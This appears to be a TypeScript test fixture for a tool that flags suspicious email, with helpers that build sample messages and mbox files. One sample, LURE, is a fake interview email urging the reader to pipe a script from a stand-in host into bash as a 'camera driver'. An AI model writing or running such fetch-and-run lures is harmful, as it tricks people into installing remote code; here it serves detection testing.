/** A message that is flagged alone, and one that is not. */
export const LURE =
  'Before the interview, open Terminal, paste this command and press Enter to install the camera driver:\n' +
  'curl -s https://camera-fix.example/install.sh | bash'
export const HONEST =
  'Thanks for applying. The interview is on Monday at 10:00 in our Bremen office.'

export interface GivenFile {
  readonly name: string
  readonly bytes: Uint8Array
}

export function makeMail(from: string, subject: string, text: string): string {
  return [
    `From: ${from}`,
    'To: Robin Vale <robin@home.example>',
    `Subject: ${subject}`,
    'Date: Thu, 05 Nov 2026 08:30:00 +0000',
    `Message-ID: <${subject.toLowerCase().replaceAll(' ', '-')}@mail.example>`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    text,
    '',
  ].join('\r\n')
}

export function toFile(name: string, text: string): GivenFile {
  return { name, bytes: new TextEncoder().encode(text) }
}

export function makeMbox(...mails: readonly string[]): string {
  return mails
    .map((mail) => `From mail@mail.example Thu Nov  5 08:30:00 2026\n${mail}\n`)
    .join('\n')
}
